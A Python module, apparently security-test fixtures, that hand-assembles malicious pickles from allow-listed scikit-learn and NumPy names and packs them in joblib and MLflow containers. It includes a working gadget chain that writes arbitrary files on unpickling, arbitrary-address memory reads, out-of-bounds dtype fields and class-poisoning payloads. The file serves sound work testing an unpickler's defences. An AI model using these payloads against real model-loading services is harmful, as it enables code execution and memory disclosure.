"""Hand-assembled attack pickles, built only from allow-listed scikit-learn and NumPy
names, as an attacker would write them (pickle's own Pickler cannot spell most of them).

Each builder returns the bytes of one pickle; `packed` wraps a pickle in every container
the upload accepts (plain, joblib zlib and gzip, MLflow zip and tar.gz).
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile

import yaml

# --- a tiny assembler -----------------------------------------------------------------

MARK, TUPLE, REDUCE, BUILD, NEWOBJ, NONE = b"(", b"t", b"R", b"b", b"\x81", b"N"
EMPTY_DICT, EMPTY_TUPLE, SETITEMS, TRUE, FALSE = b"}", b")", b"u", b"\x88", b"\x89"


def glob(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + REDUCE


def dictionary(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def new(module: str, name: str) -> bytes:
    """An instance made as protocol 2+ pickles make them: cls.__new__(cls)."""
    return glob(module, name) + EMPTY_TUPLE + NEWOBJ


def pickle_of(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def fitted_logistic_regression() -> bytes:
    """A real fitted model's pickle, to hang an attack on."""
    import pickle

    import numpy as np
    from sklearn.linear_model import LogisticRegression

    return pickle.dumps(LogisticRegression().fit(np.eye(3), [0, 1, 1]), protocol=4)


# --- the attacks ----------------------------------------------------------------------


def scorer_writes_file(path: str, content: bytes) -> bytes:
    """The attack review's chain: REDUCE calls a `_Scorer` (built with MaskedArray and
    method name `tofile`) on a FrozenEstimator whose state holds an ndarray of payload
    bytes and a `__sklearn_tags__` of numpy's NameValidator, whose class attributes were
    set by BUILD. Unpickling writes `content` to `path` (in the review: a module under
    site-packages/sklearn/, which the old allow-list then imported)."""
    payload = call(
        glob("numpy._core.numeric", "_frombuffer"), raw(content), text("u1"), tup(integer(len(content))), text("C")
    )
    tags_class = glob("numpy.lib._iotools", "NameValidator") + tup(
        NONE, dictionary((text("estimator_type"), NONE), (text("target_tags"), NONE))
    )
    tags = tags_class + BUILD
    frozen = new("sklearn.frozen._frozen", "FrozenEstimator") + dictionary(
        (text("estimator"), payload), (text("__sklearn_tags__"), tags)
    )
    frozen += BUILD
    scorer = scorer_calling("tofile")
    return pickle_of(call(scorer, frozen, text(path), NONE))


def scorer_calling(method: str) -> bytes:
    """A `_Scorer` made as pickles make it (NEWOBJ, then BUILD), from listed names only:
    called with an estimator, it calls the estimator's `method`."""
    state = dictionary(
        (text("_score_func"), glob("numpy.ma", "MaskedArray")),
        (text("_sign"), integer(1)),
        (text("_kwargs"), EMPTY_DICT),
        (text("_response_method"), text(method)),
    )
    return new("sklearn.metrics._scorer", "_Scorer") + state + BUILD


def names_module(module: str, name: str = "anything") -> bytes:
    """A pickle that only names `module.name`: importing the module is the attack."""
    return pickle_of(glob(module, name))


def poisons_class(module: str, name: str, attribute: str) -> bytes:
    """BUILD on a class object: sets `attribute` to None for every user of the class."""
    return pickle_of(glob(module, name) + tup(NONE, dictionary((text(attribute), NONE))) + BUILD)


def instance_with_state(module: str, name: str, *pairs: tuple[bytes, bytes]) -> bytes:
    return pickle_of(new(module, name) + dictionary(*pairs) + BUILD)


def array_interface_estimator(address: int, size: int) -> bytes:
    """A LogisticRegression whose own state carries an `__array_interface__` pointing at
    `address`: numpy reads `size` bytes there whenever the model is made an array."""
    interface = dictionary(
        (text("data"), tup(b"\x8a\x08" + struct.pack("<q", address), FALSE)),
        (text("shape"), tup(integer(size))),
        (text("typestr"), text("|u1")),
        (text("version"), integer(3)),
    )
    return instance_with_state(
        "sklearn.linear_model._logistic", "LogisticRegression", (text("__array_interface__"), interface)
    )


def dummy_array(address: int, size: int) -> bytes:
    """numpy's DummyArray, built around an interface dict pointing at `address`."""
    interface = dictionary(
        (text("data"), tup(b"\x8a\x08" + struct.pack("<q", address), FALSE)),
        (text("shape"), tup(integer(size))),
        (text("typestr"), text("|u1")),
        (text("version"), integer(3)),
    )
    return pickle_of(call(glob("numpy.lib._stride_tricks_impl", "DummyArray"), interface, NONE))


def dtype(spec: bytes, *, copy: bool = True, state: bytes | None = None) -> bytes:
    made = call(glob("numpy", "dtype"), spec, FALSE, TRUE if copy else FALSE)
    return made + (state + BUILD if state is not None else b"")


def array_of(dtype_bytes: bytes, data: bytes, length: int) -> bytes:
    """An ndarray as NumPy pickles one: _reconstruct, then BUILD with raw bytes."""
    empty = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(integer(0)), raw(b"b"))
    state = tup(integer(1), tup(integer(length)), dtype_bytes, FALSE, raw(data))
    return empty + state + BUILD


def out_of_bounds_field(offset: int) -> bytes:
    """An array of a structured dtype whose one float field lies `offset` bytes into an
    8-byte item: reading the field reads the heap beyond the array."""
    fields = dictionary((text("a"), tup(dtype(text("f8")), integer(offset))))
    state = tup(integer(3), text("|"), NONE, tup(text("a")), fields, integer(8), integer(1), integer(16))
    return pickle_of(array_of(dtype(text("V8"), state=state), b"\0" * 16, 2))


def object_field_without_object_flag() -> bytes:
    """A dtype whose field is a Python object while its flags say "no objects": the
    array's raw bytes become object pointers (the worker crashes on first use)."""
    fields = dictionary((text("a"), tup(dtype(text("O")), integer(0))))
    state = tup(integer(3), text("|"), NONE, tup(text("a")), fields, integer(16), integer(8), integer(0))
    return pickle_of(array_of(dtype(text("V16"), state=state), b"A" * 16, 1))


# --- containers -----------------------------------------------------------------------


def packed(kind: str, pickled: bytes) -> tuple[str, bytes]:
    """(file name, bytes) of `pickled` in the container `kind`."""
    if kind == "pickle":
        return "model.pkl", pickled
    if kind == "joblib-zlib":
        import zlib

        return "model.joblib", zlib.compress(pickled)
    if kind == "joblib-gzip":
        return "model.joblib", gzip.compress(pickled)
    mlmodel = yaml.safe_dump(
        {"flavors": {"sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle"}}}
    ).encode()
    if kind == "mlflow-zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("MLmodel", mlmodel)
            archive.writestr("model.pkl", pickled)
        return "model.zip", buffer.getvalue()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in (("MLmodel", mlmodel), ("model.pkl", pickled)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return "model.tar.gz", buffer.getvalue()


CONTAINERS = ("pickle", "joblib-zlib", "joblib-gzip", "mlflow-zip", "mlflow-tar.gz")
MLMODEL = yaml.safe_dump(
    {"flavors": {"sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle"}}}
)


# --- real objects with tampered state -------------------------------------------------


class Tampered:
    """Pickles as the given reduce value: a real object's (callable, args, state) with
    the state changed, as a hand-edited pickle would carry it."""

    def __init__(self, reduced: tuple, kind: type):
        self.reduced, self.kind = reduced, kind

    def __reduce__(self):
        return self.reduced

    @property
    def __class__(self):  # pickle checks a NEWOBJ class against the object's class
        return self.kind


def with_tampered_state(obj, change) -> Tampered:
    """`obj`'s own reduce value, its state passed through `change(state)`."""
    func, args, state, *rest = obj.__reduce_ex__(4)
    return Tampered((func, args, change(state), *rest), type(obj))
